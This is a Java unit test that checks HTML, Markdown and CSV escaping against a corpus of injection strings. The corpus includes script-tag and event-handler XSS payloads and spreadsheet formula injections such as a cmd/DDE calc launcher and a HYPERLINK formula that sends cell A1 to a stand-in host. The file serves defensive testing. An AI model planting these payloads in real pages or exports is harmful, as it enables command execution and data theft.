package dev.errata.report;

import static org.assertj.core.api.Assertions.assertThat;
import static org.junit.jupiter.api.Assertions.assertTimeoutPreemptively;

import java.io.IOException;
import java.io.StringReader;
import java.io.StringWriter;
import java.time.Duration;
import java.util.List;
import java.util.regex.Pattern;
import org.apache.commons.csv.CSVFormat;
import org.apache.commons.csv.CSVRecord;
import org.junit.jupiter.api.Test;

/**
 * Values from the data go into HTML, Markdown and CSV through one escape each; a corpus of injection
 * strings shows that none of them can become markup, a link or a spreadsheet formula.
 */
class InjectionCorpusTest {

    static final List<String> MARKUP = List.of(
            "<script>alert(1)</script>",
            "<ScRiPt>alert(1)</sCrIpT>",
            "<<script>script>alert(1)<</script>/script>",
            "\"><img src=x onerror=alert(1)>",
            "'><img src=x onerror=alert(1)>",
            "<img src=\"x\" onerror=\"alert(1)\">",
            "<svg onload=alert(1)>",
            "<svg><script>alert(1)</script></svg>",
            "<iframe src=javascript:alert(1)>",
            "<body onload=alert(1)>",
            "</textarea><script>alert(1)</script>",
            "</title><script>alert(1)</script>",
            "<a href=\"javascript:alert(1)\">x</a>",
            "<math><mi xlink:href=\"javascript:alert(1)\">x</mi></math>",
            "<style>@import 'http://example.invalid/x.css';</style>",
            "<link rel=stylesheet href=//example.invalid>",
            "<meta http-equiv=refresh content=0;url=//example.invalid>",
            "<object data=javascript:alert(1)>",
            "<details open ontoggle=alert(1)>",
            "<input autofocus onfocus=alert(1)>",
            "&lt;script&gt;alert(1)&lt;/script&gt;",
            "&#60;script&#62;",
            "<!--<script>alert(1)//-->",
            "<![CDATA[<script>alert(1)</script>]]>",
            "\" onmouseover=\"alert(1)",
            "' onmouseover='alert(1)",
            "javascript:alert(1)",
            "data:text/html,<script>alert(1)</script>",
            "[click](javascript:alert(1))",
            "![x](http://example.invalid/track.png)",
            "<http://example.invalid>",
            "`<script>`",
            "| a | b |",
            "# heading",
            "***bold***",
            "\\<script>",
            "\u003cscript\u003ealert(1)\u003c/script\u003e",
            "x\n<script>alert(1)</script>",
            "\u0000<script>");

    static final List<String> FORMULAS = List.of(
            "=1+2",
            "=cmd|' /C calc'!A0",
            "=HYPERLINK(\"http://example.invalid?x=\"&A1,\"click\")",
            "+1+2",
            "+SUM(A1:A9)",
            "-2+3",
            "-SUM(A1)",
            "@SUM(A1:A9)",
            "\t=1+2",
            "\r=1+2",
            "=IMPORTXML(CONCAT(\"http://x/\",A1),\"//a\")",
            "=WEBSERVICE(\"http://example.invalid\")",
            "=DDE(\"cmd\";\"/C calc\";\"x\")",
            "@cmd",
            "-",
            "+",
            "=",
            // A spreadsheet in a locale that separates with semicolons splits this cell and runs the second part.
            "x;=cmd|' /C calc'!A0",
            "x,=1+1",
            "\uFF1D1+1",
            "\uFF0B1+1",
            "\uFF0D1+1",
            "\uFF201+1",
            "\uFEFF=1+1",
            " =1+1",
            "\u00A0=1+1",
            "\n=1+1",
            "  +1+2");

    private static final Pattern ENTITY = Pattern.compile("&(amp|lt|gt|quot|#39|#32|#9);");

    @Test
    void escapedHtmlHoldsNoMarkupCharacterAndReadsBackAsTheValue() {
        for (String value : MARKUP) {
            String escaped = Markup.escape(value);
            assertThat(escaped).as(value).doesNotContain("<", ">", "\"", "'");
            assertThat(unescape(escaped)).as(value).isEqualTo(value);
        }
    }

    @Test
    void escapedMarkdownHoldsNoHtmlAndNoLinkOrFormatting() {
        for (String value : MARKUP) {
            String escaped = ENTITY.matcher(MarkdownReport.escape(value)).replaceAll("");
            assertThat(escaped).as(value).doesNotContain("<", ">");
            for (int i = 0; i < escaped.length(); i++) {
                if ("`*_[]|#!".indexOf(escaped.charAt(i)) >= 0) {
                    assertThat(escaped.charAt(i - 1)).as(value + " at " + i).isEqualTo('\\');
                }
            }
        }
    }

    @Test
    void exportedCellsNeverStartAFormulaAndKeepTheirTextAfterTheQuote() throws IOException {
        for (String value : FORMULAS) {
            StringWriter out = new StringWriter();
            try (ExportCsv csv = new ExportCsv(out, List.of("cell"))) {
                List<String> cells = ExportCsv.cells();
                cells.add(ExportCsv.text(value));
                csv.row(cells);
            }
            List<CSVRecord> records = CSVFormat.DEFAULT
                    .builder()
                    .setHeader()
                    .setSkipHeaderRecord(true)
                    .get()
                    .parse(new StringReader(out.toString()))
                    .getRecords();
            String cell = records.get(0).get("cell");
            assertThat(cell).as(value).startsWith("'").isEqualTo("'" + value);
        }
        assertThat(ExportCsv.text("-0.5"))
                .as("a negative number stays a number")
                .isEqualTo("-0.5");
        assertThat(ExportCsv.text("+1e3")).isEqualTo("+1e3");
        assertThat(ExportCsv.text("0.25;0.75"))
                .as("text with a semicolon that starts no formula")
                .isEqualTo("0.25;0.75");
    }

    @Test
    void aCellHoldingASemicolonIsQuotedSoASemicolonLocaleKeepsItOneCell() throws IOException {
        StringWriter out = new StringWriter();
        try (ExportCsv csv = new ExportCsv(out, List.of("a", "b"))) {
            csv.row(List.of(ExportCsv.text("x;=cmd|' /C calc'!A0"), ExportCsv.number(2)));
        }
        assertThat(out.toString()).isEqualTo("a,b\n\"'x;=cmd|' /C calc'!A0\",2\n");
    }

    @Test
    void checksWhetherACellIsANumberInTimeLinearInItsLength() {
        String cell = "-" + "1".repeat(160_000) + "x";
        assertTimeoutPreemptively(
                Duration.ofSeconds(2), () -> assertThat(ExportCsv.text(cell)).isEqualTo("'" + cell));
        String number = "-" + "1".repeat(160_000) + ".5e3";
        assertTimeoutPreemptively(
                Duration.ofSeconds(2), () -> assertThat(ExportCsv.text(number)).isEqualTo(number));
    }

    @Test
    void aCellReadBackGivesTheExactTextEvenWhereTheTextStartsWithAQuote() {
        for (String value : FORMULAS) {
            assertThat(SpreadsheetText.original(SpreadsheetText.inert(value)))
                    .as(value)
                    .isEqualTo(value);
        }
        assertThat(SpreadsheetText.inert("'=1+2")).isEqualTo("''=1+2");
        assertThat(SpreadsheetText.original("''=1+2")).isEqualTo("'=1+2");
        assertThat(SpreadsheetText.inert("'tis")).isEqualTo("''tis");
        assertThat(SpreadsheetText.original("''tis")).isEqualTo("'tis");
        assertThat(SpreadsheetText.original("'tis"))
                .as("not written by an export: kept")
                .isEqualTo("'tis");
        assertThat(SpreadsheetText.original("'-0.5"))
                .as("an export leaves numbers bare: kept")
                .isEqualTo("'-0.5");
        assertThat(SpreadsheetText.original("-0.5")).isEqualTo("-0.5");
    }

    private static String unescape(String escaped) {
        return ENTITY.matcher(escaped).replaceAll(m -> switch (m.group(1)) {
            case "amp" -> "&";
            case "lt" -> "<";
            case "gt" -> ">";
            case "quot" -> "\"";
            default -> "'";
        });
    }
}
